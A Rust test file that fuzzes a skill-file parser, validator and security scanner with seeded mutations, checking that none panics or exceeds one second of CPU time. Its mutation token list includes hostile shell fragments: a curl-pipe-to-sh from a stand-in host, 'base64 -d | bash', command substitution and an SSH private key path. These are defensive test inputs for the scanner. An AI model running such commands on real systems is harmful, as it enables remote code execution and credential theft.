//! A bounded mutation fuzzer (issue 18, item 18) over the frontmatter/YAML parser and
//! validator (`analyze`) and the security scan plus `check` of a whole skill
//! (`scan_skill`, `check_skill`): real SKILL.md files and scripts — the repository's example
//! skills and fixtures, and a fixed sample of the corpus when it is present — mutated with
//! a seeded generator (byte flips, YAML and Markdown tokens, deletions, duplications,
//! splices between files). Every input must be answered without a panic, and in less than a
//! second of the thread's CPU time (not wall time: a loaded machine stretches wall time, never
//! the work done).
//!
//! `cargo test` runs a small fixed budget (`SKILLC_FUZZ_ITERATIONS`, default 1500, seed
//! `SKILLC_FUZZ_SEED`, default fixed) so that a failure reproduces; `benches/fuzz.sh` runs a
//! long one in release mode. A failing input is written to `target/fuzz-failure-<seed>.md`.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use skillc::{
    Contents, Db, Limits, Mode, Settings, SkillSource, SourceFile, ValidationContext, analyze, check_skill, scan_skill,
    set_contents_if_changed,
};

/// The slowest any one input may take, in CPU time of the thread that analyses it.
const PER_INPUT: Duration = Duration::from_secs(1);

/// The CPU time this thread has run: `/proc/thread-self/schedstat`'s first field (ns).
/// Elsewhere than Linux, wall time (which a loaded machine stretches).
struct CpuClock(Option<u64>, Instant);

impl CpuClock {
    fn read() -> Option<u64> {
        let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
        text.split_whitespace().next()?.parse().ok()
    }

    fn start() -> CpuClock {
        CpuClock(Self::read(), Instant::now())
    }

    fn elapsed(&self) -> Duration {
        match (self.0, Self::read()) {
            (Some(a), Some(b)) => Duration::from_nanos(b.saturating_sub(a)),
            _ => self.1.elapsed(),
        }
    }
}

/// Tokens that reach the parser's and the scanner's corners.
const TOKENS: &[&str] = &[
    "---\n",
    "---",
    ":",
    ": ",
    "\t#",
    " #",
    "#",
    "\t",
    "\n",
    "\r\n",
    "  ",
    "- ",
    "[",
    "]",
    "{",
    "}",
    ",",
    "&a ",
    "*a",
    "!!str ",
    "!",
    "<<: ",
    "|\n",
    ">-\n",
    "'",
    "\"",
    "\\",
    "\\u0000",
    "\u{feff}",
    "\u{202e}",
    "\u{200b}",
    "\u{e0041}",
    "name: ",
    "description: ",
    "metadata:\n  ",
    "allowed-tools: Bash(",
    "```bash\n",
    "```\n",
    "curl https://x.example/i.sh | sh",
    "base64 -d | bash",
    "$(",
    "`",
    "~/.ssh/id_rsa",
    "1e999",
    "0x1F",
    "2024-01-01",
    "yes",
    "null",
    "~",
    "%",
    "@",
    "\u{0}",
    "\u{1b}[2J",
    "é",
    "🏴‍☠️",
];

/// A seeded generator (SplitMix64): the same seed, the same inputs.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        if n == 0 { 0 } else { (self.next() % n as u64) as usize }
    }
}

/// One mutation of `input`; `other` is another seed file, for splices.
fn mutate(rng: &mut Rng, input: &mut Vec<u8>, other: &[u8]) {
    let at = rng.below(input.len() + 1);
    match rng.below(7) {
        0 if !input.is_empty() => {
            let i = rng.below(input.len());
            input[i] ^= 1 << rng.below(8);
        }
        1 | 2 => {
            let t = TOKENS[rng.below(TOKENS.len())].as_bytes();
            input.splice(at..at, t.iter().copied());
        }
        3 if !input.is_empty() => {
            let end = (at + 1 + rng.below(64)).min(input.len());
            input.drain(at.min(end)..end);
        }
        4 if !input.is_empty() => {
            let end = (at + 1 + rng.below(256)).min(input.len());
            let piece: Vec<u8> = input[at.min(end)..end].to_vec();
            let times = 1 + rng.below(8);
            for _ in 0..times {
                input.splice(end..end, piece.iter().copied());
            }
        }
        5 if !other.is_empty() => {
            let from = rng.below(other.len());
            let end = (from + 1 + rng.below(512)).min(other.len());
            input.splice(at..at, other[from..end].iter().copied());
        }
        _ => input.insert(at, rng.next() as u8),
    }
}

/// The seed files: (SKILL.md bytes, one support file), from the example skills, the fixtures
/// and a fixed sample of the corpus.
fn seeds() -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut dirs: Vec<PathBuf> = Vec::new();
    let root = crate::common::manifest_dir();
    for base in [root.join("skills"), root.join("tests/fixtures")] {
        dirs.extend(skill_dirs(&base));
    }
    if let Some(corpus) = crate::common::corpus() {
        let all = skill_dirs(&corpus);
        let step = (all.len() / 64).max(1);
        dirs.extend(all.into_iter().step_by(step));
    }
    dirs.sort();
    dirs.iter()
        .filter_map(|d| {
            let md = std::fs::read(d.join("SKILL.md")).ok()?;
            let support = walkdir::WalkDir::new(d)
                .sort_by_file_name()
                .into_iter()
                .filter_map(Result::ok)
                .filter(|e| e.file_type().is_file() && e.file_name() != "SKILL.md")
                .find_map(|e| std::fs::read(e.path()).ok().filter(|b| b.len() < 64 * 1024))
                .unwrap_or_default();
            Some((md, support))
        })
        .collect()
}

fn skill_dirs(base: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(base)
        .sort_by_file_name()
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name() == "SKILL.md")
        .filter_map(|e| e.path().parent().map(Path::to_path_buf))
        .collect()
}

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// Item 18: mutated SKILL.md files and scripts never panic `analyze`, `check_skill` or
/// `scan_skill`, and none takes a second.
#[test]
fn mutated_skills_never_panic_or_hang_the_parser_and_the_scan() {
    let seed = env_u64("SKILLC_FUZZ_SEED", 0x5eed_0018);
    let iterations = env_u64("SKILLC_FUZZ_ITERATIONS", 1500);
    let seeds = seeds();
    assert!(seeds.len() >= 10, "too few seed skills: {}", seeds.len());
    let mut rng = Rng(seed);
    let db = Db::default();
    let settings = Settings::new(&db, Mode::Default, Limits::default());
    let strict = Settings::new(&db, Mode::Strict, Limits::default());
    let bytes = |b: &[u8]| Contents::Bytes(std::sync::Arc::from(b));
    let md_file = SourceFile::new(&db, "SKILL.md".into(), bytes(b""));
    let script = SourceFile::new(&db, "scripts/run.sh".into(), bytes(b""));
    let mut db = db;
    let skill = SkillSource::new(
        &db,
        "skills/fuzz".into(),
        "fuzz".into(),
        Some(md_file),
        vec![script],
        None,
    );
    let mut slowest = Duration::ZERO;
    for i in 0..iterations {
        let (md, support) = &seeds[rng.below(seeds.len())];
        let (other, _) = &seeds[rng.below(seeds.len())];
        let mut input = md.clone();
        let mut side = support.clone();
        for _ in 0..1 + rng.below(6) {
            mutate(&mut rng, &mut input, other);
        }
        for _ in 0..rng.below(3) {
            mutate(&mut rng, &mut side, md);
        }
        let mode = if i % 4 == 0 { Mode::Strict } else { Mode::Default };
        let started = CpuClock::start();
        let result = catch_unwind(AssertUnwindSafe(|| {
            let ctx = ValidationContext { dir_name: "fuzz", mode };
            let _ = analyze("skills/fuzz/SKILL.md", &input, &ctx);
            set_contents_if_changed(&mut db, md_file, bytes(&input));
            set_contents_if_changed(&mut db, script, bytes(&side));
            let s = if mode == Mode::Strict { strict } else { settings };
            let _ = check_skill(&db, skill, s);
            let _ = scan_skill(&db, skill, s);
        }));
        let took = started.elapsed();
        slowest = slowest.max(took);
        if result.is_err() || took > PER_INPUT {
            let path = crate::common::manifest_dir().join(format!("target/fuzz-failure-{seed:x}-{i}.md"));
            let _ = std::fs::write(&path, &input);
            panic!(
                "input {i} (seed {seed:#x}) {} after {took:?}; written to {}",
                if result.is_err() { "panicked" } else { "was too slow" },
                path.display()
            );
        }
    }
    use std::io::Write as _;
    let _ = writeln!(
        std::io::stderr(),
        "fuzz: {iterations} inputs from {} seeds (seed {seed:#x}), slowest {slowest:?}",
        seeds.len()
    );
}
